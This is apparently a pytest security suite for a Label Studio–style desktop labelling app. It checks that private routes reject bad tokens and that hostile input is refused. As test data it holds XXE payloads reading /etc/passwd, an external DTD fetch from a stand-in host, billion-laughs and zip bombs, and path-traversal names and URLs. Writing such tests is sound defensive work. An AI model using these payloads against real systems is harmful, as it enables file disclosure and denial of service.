"""Every route of the live route table refuses a missing or wrong token; hostile input is refused
without side effects: entity bombs and external entities in XML, traversal in uploads, local
files and project archives, oversized bodies. (Host/Origin and the loopback socket: see also
tests/api/test_security.py.)"""

import io
import re
import time
import zipfile

import pytest
import requests
from conftest import LABEL_CONFIG

from desktop.ui.webapp import APP_ROOTS

# Reachable without credentials, on purpose: the pages and files the sign-in needs, health and
# version probes, config validation (as in Label Studio), the token exchanges and the API schema,
# the label-config templates' thumbnails (static files) and the webhook actions (public in LS).
PUBLIC = {
    ("GET", "/"), ("GET", "/user/login"), ("POST", "/user/login"), ("GET", "/user/logout"),
    ("POST", "/user/logout"), ("GET", "/static/<path:path>"), ("GET", "/favicon.ico"),
    ("GET", "/health"), ("GET", "/api/health"), ("GET", "/api/version"), ("GET", "/version"),
    ("POST", "/api/projects/validate"), ("POST", "/api/token/refresh"),
    ("POST", "/api/ui/session"), ("GET", "/api/schema"), ("GET", "/docs/api"),
    # Label Studio's web app: its pages (or the sign-in page), files, service worker and tips
    *(("GET", rule) for root in APP_ROOTS for rule in (root, root + "/<rest:path>")),
    ("GET", "/desktop"), ("GET", "/react-app/<path:path>"), ("GET", "/sw.js"),
    ("GET", "/heidi-tips"), ("GET", "/logout"),
    ("GET", "/static/templates/<name:path>"), ("GET", "/api/webhooks/info"),
}


def route_table(live):
    bottle_app = live.app.wsgi.app  # the Guard wraps the Bottle app
    return [(route.method, route.rule, route.config.get("auth", True))
            for route in bottle_app.routes]


def concrete(rule):
    """A URL for a rule: every wildcard becomes 1 (ids) or a plain word."""
    return re.sub(r"<([^>:]+)(:[^>]*)?>",
                  lambda m: "1" if m.group(1).endswith("id") else "x", rule)


def test_public_routes_are_exactly_the_documented_ones(live):
    public = {(method, rule) for method, rule, auth in route_table(live) if not auth}
    assert public == PUBLIC


@pytest.mark.parametrize("credentials", [
    {}, {"Authorization": "Token wrong"}, {"Authorization": "Token "},
    {"Authorization": "Bearer not.a.jwt"}, {"X-Api-Key": "wrong"},
    {"Cookie": "sessionid=forged"}])
def test_every_private_route_needs_a_valid_token(live, credentials):
    project = live.api.project(title="Secret")
    before = live.api.get(f"/api/projects/{project['id']}").json()
    checked = 0
    session = requests.Session()
    for method, rule, auth in route_table(live):
        if not auth:
            continue
        url = live.url + concrete(rule)
        response = session.request(method, url, headers=credentials, json={"title": "x"},
                                   timeout=10)
        assert response.status_code == 401, (method, rule, response.status_code,
                                             response.text[:200])
        assert live.token not in response.text
        checked += 1
    assert checked > 100, checked
    # and nothing changed
    assert live.api.get(f"/api/projects/{project['id']}").json() == before


def test_valid_token_passes_the_same_routes(live):
    """The 401s above come from authentication, not from the made-up URLs."""
    response = live.api.get("/api/projects/1")
    assert response.status_code in (200, 404)
    assert live.api.get("/api/current-user/whoami").status_code == 200


# -- XML: external entities and entity bombs -------------------------------------------------

XXE = """<?xml version="1.0"?>
<!DOCTYPE View [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<View><Text name="text" value="$text"/><Header value="&xxe;"/>
<Choices name="c" toName="text"><Choice value="A"/></Choices></View>"""

LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE View [<!ENTITY a "lollollollollollollollollollol">""" + "".join(
    f'<!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 10}">' for i in range(9)) + """]>
<View><Text name="text" value="$text"/><Header value="&j;"/>
<Choices name="c" toName="text"><Choice value="A"/></Choices></View>"""

PARAMETER_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE View [<!ENTITY % remote SYSTEM "http://192.0.2.1/evil.dtd"> %remote;]>
<View><Text name="text" value="$text"/></View>"""


@pytest.mark.parametrize("config", [XXE, LAUGHS, PARAMETER_ENTITY],
                         ids=["xxe", "billion-laughs", "parameter-entity"])
def test_hostile_label_configs(live, config):
    started = time.monotonic()
    checks = [live.api.post("/api/projects/validate", json={"label_config": config}),
              live.api.post("/api/projects", json={"title": "xml", "label_config": config})]
    project = live.api.project(title="Target")
    checks.append(live.api.patch(f"/api/projects/{project['id']}",
                                 json={"label_config": config}))
    assert time.monotonic() - started < 10
    for response in checks:
        assert response.status_code in (200, 201, 204, 400), response.text[:300]
        assert "root:" not in response.text and "lollollollollol" * 5 not in response.text
        if response.status_code in (200, 201) and "label_config" in response.text:
            stored = response.json().get("label_config", "")
            assert "root:" not in stored
    listed = live.api.get("/api/projects?page_size=100").text
    assert "root:x:0:0" not in listed


@pytest.mark.parametrize("name", ["bomb.xml", "bomb.html"])
def test_hostile_xml_and_html_uploads(live, name):
    project = live.api.project(title="Uploads", label_config="""<View>
      <HyperText name="html" value="$html"/>
      <Choices name="c" toName="html"><Choice value="A"/></Choices></View>""")
    body = LAUGHS if name.endswith(".xml") else LAUGHS.replace("<View>", "<html><View>")
    started = time.monotonic()
    response = live.api.post(f"/api/projects/{project['id']}/import",
                             files={"file": (name, body.encode())})
    assert time.monotonic() - started < 10
    assert response.status_code in (201, 400), response.text[:300]
    tasks = live.api.get(f"/api/tasks?project={project['id']}&fields=all").text
    assert "lollollollollol" * 5 not in tasks
    xxe = live.api.post(f"/api/projects/{project['id']}/import",
                        files={"file": ("x" + name, XXE.encode())})
    assert xxe.status_code in (201, 400)
    assert "root:x:0:0" not in live.api.get(
        f"/api/tasks?project={project['id']}&fields=all").text


# -- traversal: uploads, served files, local files, project archives -------------------------

def test_traversal_in_upload_names(live, tmp_path):
    project = live.api.project(title="Names", label_config="""<View>
      <Text name="text" value="$text"/><Choices name="c" toName="text">
      <Choice value="A"/></Choices></View>""")
    data_dir = live.settings.data_dir
    for name in ("../../../evil.txt", "..\\..\\evil.txt", "/etc/evil.txt", ".hidden.txt",
                 "a/../../evil.txt"):
        response = live.api.post(f"/api/projects/{project['id']}/import",
                                 files={"file": (name, b"hello")})
        assert response.status_code in (201, 400), (name, response.text[:200])
    assert not list(data_dir.parent.glob("evil.txt"))
    assert not list((data_dir / "media").glob("evil.txt"))
    assert not (tmp_path / "evil.txt").exists()
    for stored in (data_dir / "media").rglob("*"):
        assert data_dir / "media" in stored.resolve().parents
        assert ".." not in stored.name
    for path in ("/data/upload/1/..%2f..%2fsettings.json", "/data/upload/1/../../db/LOCK",
                 "/data/upload/..%2f..%2fdb/journal.ldb", "/data/upload/1/%2e%2e/x",
                 f"/data/upload/{project['id']}/..%5c..%5cdb%5cjournal.ldb"):
        response = live.api.get(path)
        assert response.status_code in (400, 404), (path, response.status_code)
        assert b"labeldesk-journal" not in response.content


def test_traversal_in_local_files(live, tmp_path):
    for d in ("../../../../etc/passwd", "/etc/passwd", "..%2f..%2fetc%2fpasswd",
              "%2e%2e/%2e%2e/etc/passwd", str(live.settings.data_dir / "db" / "journal.ldb")):
        response = live.api.get(f"/data/local-files/?d={d}")
        assert response.status_code in (400, 403, 404), (d, response.status_code)
        assert b"root:" not in response.content and b"labeldesk-journal" not in response.content


def project_archive(live):
    project = live.api.project(title="Archive", label_config=LABEL_CONFIG)
    live.api.post(f"/api/projects/{project['id']}/import", json=[{"text": "a"}])
    response = live.api.get(f"/api/projects/{project['id']}/archive")
    assert response.status_code == 200, response.text[:300]
    return response.content


@pytest.mark.parametrize("member", ["../../evil.txt", "/tmp/labeldesk-evil.txt",
                                    "media/../../../evil.txt", "media/..\\..\\evil.txt"])
def test_traversal_in_project_archives(live, tmp_path, member):
    good = zipfile.ZipFile(io.BytesIO(project_archive(live)))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as bad:
        for info in good.infolist():
            bad.writestr(info, good.read(info))
        bad.writestr(member, b"owned")
    before = live.api.get("/api/projects?page_size=100").json()["count"]
    response = live.api.post("/api/projects/archive", data=out.getvalue(),
                             headers={"Content-Type": "application/zip"})
    assert response.status_code in (201, 400), response.text[:300]
    data_dir = live.settings.data_dir
    for place in (data_dir.parent, data_dir, data_dir / "media", tmp_path):
        assert not (place / "evil.txt").exists()
    import pathlib
    assert not pathlib.Path("/tmp/labeldesk-evil.txt").exists()
    for stored in (data_dir / "media").rglob("*"):
        assert data_dir / "media" in stored.resolve().parents
    if response.status_code == 400:
        assert live.api.get("/api/projects?page_size=100").json()["count"] == before


def test_zip_bomb_archive_is_refused(live):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as bomb:
        bomb.writestr("manifest.json", b'{"format": "labeldesk-project", "version": 1}')
        bomb.writestr("project.json", b" " * (300 * 1024 * 1024))
    started = time.monotonic()
    response = live.api.post("/api/projects/archive", data=out.getvalue(),
                             headers={"Content-Type": "application/zip"})
    assert time.monotonic() - started < 20
    # refused by its declared size before anything is inflated
    assert response.status_code in (400, 413), response.text[:300]


# -- oversized bodies ------------------------------------------------------------------------

def test_oversized_bodies_are_refused(make_live):
    small = make_live(max_body_bytes=64 * 1024)
    project = small.api.project(title="Small")
    big = b"[" + b",".join(b'{"text": "%d"}' % i for i in range(20000)) + b"]"
    for method, path, kwargs in (
            ("POST", f"/api/projects/{project['id']}/import",
             {"data": big, "headers": {"Content-Type": "application/json"}}),
            ("POST", f"/api/projects/{project['id']}/import", {"files": {"file": ("a.json",
                                                                                    big)}}),
            ("PATCH", f"/api/projects/{project['id']}", {"json": {"description": "x" * 100000}}),
            ("POST", "/api/projects/archive", {"data": big}),
            ("POST", "/api/projects/validate", {"json": {"label_config": "x" * 100000}})):
        response = small.api.request(method, path, timeout=30, **kwargs)
        assert response.status_code == 413, (path, response.status_code, response.text[:200])
        assert response.json()["status_code"] == 413
    assert small.api.get(f"/api/projects/{project['id']}").json()["task_number"] == 0
